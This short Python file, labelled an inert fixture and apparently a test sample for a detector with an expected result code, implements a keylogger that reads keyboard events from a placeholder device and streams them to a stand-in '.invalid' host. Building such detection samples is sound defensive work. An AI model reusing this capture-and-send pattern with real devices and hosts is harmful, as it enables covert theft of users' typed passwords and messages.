# Inert fixture: reads a canary device path that does not exist; sends to a .invalid host.
import socket

from evdev import InputDevice, categorize, ecodes

dev = InputDevice("/dev/input/event-modelgate-canary")  # expect: YR501
sock = socket.create_connection(("canary.modelgate.invalid", 9999))
keystrokes = []
for event in dev.read_loop():
    if event.type == ecodes.EV_KEY:
        keystrokes.append(str(categorize(event)))
        sock.sendall("".join(keystrokes).encode())
